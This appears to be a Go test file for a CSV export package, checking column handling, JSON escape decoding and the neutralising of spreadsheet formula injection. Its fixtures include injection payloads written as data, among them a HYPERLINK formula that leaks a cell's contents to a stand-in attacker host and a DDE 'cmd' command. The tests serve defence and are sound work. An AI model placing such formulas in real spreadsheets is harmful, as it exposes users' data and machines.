package export_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/privops/privops/shared/export"
)

func TestWriteCSV(t *testing.T) {
	t.Parallel()
	pkg, _ := write(t, []export.Part{recorded(t, "crm", "CRM")}, export.Options{})
	_, files := unzip(t, pkg)
	want := [][]string{
		{"contactId", "email", "name", "score", "optIn", "createdAt", "phone", "notes", "balance"},
		{"c-1001", "ada@example.com", "Ada Lovelace", "12.5", "true", "2029-11-30T08:15:00Z", "", "", ""},
		{"c-1002", "jose@example.com", `José "Pepe" Núñez`, "-5", "false", "", "'+1 555 0100", "", ""},
		{"c-1003", "", `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "12345678901234567890", "", "", "", "line one\nline two", "1.5e3"},
		{"c-1004", "", "'@SUM(1+1)", "", "", "", "'\t=1+1", "'-2+3+cmd|' /C calc'!A0", "0"},
		{"c-1005", "", "Zoë 🙂", "", "", "2030-01-31T02:00:00Z", "", "'\r=1", ""},
	}
	if diff := cmp.Diff(want, readCSV(t, files["services/crm.csv"])); diff != "" {
		t.Errorf("services/crm.csv (-want +got):\n%s", diff)
	}
}

func TestWriteCSVGuardsFormulaInjection(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		value string // JSON value of the cell
		want  string
	}{
		{"equals", `"=1+1"`, "'=1+1"},
		{"plus", `"+1+1"`, "'+1+1"},
		{"minus", `"-1+1"`, "'-1+1"},
		{"at", `"@SUM(A1)"`, "'@SUM(A1)"},
		{"tab", `"\t=1"`, "'\t=1"},
		{"carriage return", `"\r=1"`, "'\r=1"},
		{"escaped equals", `"\u003d1+1"`, "'=1+1"},
		{"equals later is text", `"a=1"`, "a=1"},
		{"negative number stays a number", `-5`, "-5"},
		{"empty text", `""`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p, _ := part("svc", "Service", `{"items":[{"v":`+tt.value+`}]}`)
			pkg, _ := write(t, []export.Part{p}, export.Options{})
			_, files := unzip(t, pkg)
			want := [][]string{{"v"}, {tt.want}}
			if diff := cmp.Diff(want, readCSV(t, files["services/svc.csv"])); diff != "" {
				t.Errorf("csv (-want +got):\n%s", diff)
			}
		})
	}
	t.Run("one empty column", func(t *testing.T) {
		t.Parallel()
		// encoding/csv alone would write blank lines, which readers skip.
		p, _ := part("svc", "Service", `{"items":[{"":null},{"":"x"},{"":""}]}`)
		pkg, _ := write(t, []export.Part{p}, export.Options{})
		_, files := unzip(t, pkg)
		want := [][]string{{""}, {""}, {"x"}, {""}}
		if diff := cmp.Diff(want, readCSV(t, files["services/svc.csv"])); diff != "" {
			t.Errorf("csv (-want +got):\n%s", diff)
		}
	})
	t.Run("header", func(t *testing.T) {
		t.Parallel()
		p, _ := part("svc", "Service", `{"items":[{"=cmd":1,"@a\u0062":2}]}`)
		pkg, _ := write(t, []export.Part{p}, export.Options{})
		_, files := unzip(t, pkg)
		want := [][]string{{"'=cmd", "'@ab"}, {"1", "2"}}
		if diff := cmp.Diff(want, readCSV(t, files["services/svc.csv"])); diff != "" {
			t.Errorf("csv (-want +got):\n%s", diff)
		}
	})
}

func TestWriteCSVDuplicateKeyLastWins(t *testing.T) {
	t.Parallel()
	// As json.Unmarshal does: the last of duplicate keys wins.
	p, _ := part("svc", "Service", `{"items":[{"a":1,"b":2,"a":3}]}`)
	pkg, _ := write(t, []export.Part{p}, export.Options{})
	_, files := unzip(t, pkg)
	if diff := cmp.Diff([][]string{{"a", "b"}, {"3", "2"}}, readCSV(t, files["services/svc.csv"])); diff != "" {
		t.Errorf("csv (-want +got):\n%s", diff)
	}
}

func TestWriteCSVDecodesEscapesAsEncodingJSON(t *testing.T) {
	t.Parallel()
	tests := []string{
		`"a\u00e9\u00E9"`,
		`"a\ud83d\ude42"`,     // a surrogate pair
		`"a\ud800"`,           // a lone high surrogate
		`"a\ud800x"`,          // followed by text
		`"a\ud800\u0041"`,     // followed by a non-surrogate escape
		`"a\udc00\ud800"`,     // the pair in the wrong order
		`"a\"\\\/\b\f\n\r\t"`, // every short escape
		`"a\u0000b"`,          // NUL
		`"a` + "é🙂" + `\n"`,   // raw UTF-8 and an escape
		`"` + strings.Repeat(`x\n`, 1000) + `"`,
	}
	for _, lit := range tests {
		t.Run(lit[:min(len(lit), 20)], func(t *testing.T) {
			t.Parallel()
			var want string
			if err := json.Unmarshal([]byte(lit), &want); err != nil {
				t.Fatal(err)
			}
			p, _ := part("svc", "Service", `{"items":[{`+lit+`:`+lit+`}]}`)
			pkg, _ := write(t, []export.Part{p}, export.Options{})
			_, files := unzip(t, pkg)
			if diff := cmp.Diff([][]string{{want}, {want}}, readCSV(t, files["services/svc.csv"])); diff != "" {
				t.Errorf("csv (-want +got):\n%s", diff)
			}
		})
	}
}

func TestWriteCSVKeysInAnyOrder(t *testing.T) {
	t.Parallel()
	// Keys in another order, missing, new, escaped, or named twice: each
	// cell lands under its own column whatever the previous item held.
	p, _ := part("svc", "Service", `{"items":[{"a":1,"b":2},{"b":3,"a":4},{"c":5,"a":6},{"a":7},{"\u0062":8,"a":9,"a":10},{"a":11,"b":12,"c":13}]}`)
	pkg, _ := write(t, []export.Part{p}, export.Options{})
	_, files := unzip(t, pkg)
	want := [][]string{{"a", "b", "c"}, {"1", "2", ""}, {"4", "3", ""}, {"6", "", "5"}, {"7", "", ""}, {"10", "8", ""}, {"11", "12", "13"}}
	if diff := cmp.Diff(want, readCSV(t, files["services/svc.csv"])); diff != "" {
		t.Errorf("csv (-want +got):\n%s", diff)
	}
}
